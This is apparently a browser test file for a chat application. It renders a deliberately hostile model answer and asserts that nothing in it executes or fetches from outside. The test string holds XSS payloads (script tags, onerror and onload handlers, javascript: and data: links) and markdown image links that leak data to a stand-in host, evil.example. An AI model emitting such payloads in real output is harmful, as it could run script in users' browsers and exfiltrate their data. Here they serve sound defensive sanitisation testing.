import { afterAll, beforeAll, expect, test } from 'vitest'
import { answering, appUnderTest, type AppUnderTest, ask, lastTurn, phase } from './app-under-test.ts'

let app: AppUnderTest
beforeAll(async () => {
  app = await appUnderTest()
})
afterAll(() => app.close())

const hostile = `Start.

<script>window.ran = 1</script>
<img src="https://evil.example/a.png" onerror="window.ran = 2">

![a secret](https://evil.example/?leak=1) ![x](//evil.example/b.png "t") and inline <img src=x onerror=window.ran=3>

[click me](javascript:window.ran=4) [data](data:text/html,<script>window.ran=5</script>) <a href="javascript:window.ran=6">a</a>

<svg onload="window.ran=7"><use href="https://evil.example/s.svg#x"/></svg>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button>go</button></form>
<style>@import 'https://evil.example/x.css'; body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/y.css"><video src="https://evil.example/v.mp4" autoplay></video>

| a | b |
|---|---|
| <img src=x onerror=window.ran=8> | ![c](https://evil.example/c.png) |

[ref][1] and &lt;b&gt;entities&lt;/b&gt; and [review:"><img src=x onerror=window.ran=9>]

[1]: https://evil.example/ref "title"

[a page](https://www.example.org/path)

End.`

test('whatever a model writes, nothing of it runs and nothing is fetched from elsewhere', async () => {
  app.play(answering({ content: hostile }))
  const page = await app.open()
  const elsewhere: string[] = []
  const refused: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(app.service.url)) elsewhere.push(request.url())
  })
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text())
  })
  await ask(page)
  await phase(page, 'ok')
  const prose = lastTurn(page).locator('.prose')
  await prose.getByText('End.').waitFor()
  for (const link of await prose.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https?:/)
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(await link.innerText()).toMatch(/\((evil\.example|example\.org)\)/)
  }
  expect(await page.evaluate<unknown>('window.ran')).toBeUndefined()
  expect(elsewhere).toEqual([])
  expect(refused).toEqual([]) // the policy is the second wall: nothing should reach it
  expect(await prose.locator('script, img, iframe, svg, style, form, link, video').count()).toBe(0)
  expect(await prose.innerText()).toContain('[image: a secret]')
  expect(await prose.innerText()).toContain('<b>entities</b>')
  await page.context().close()
})
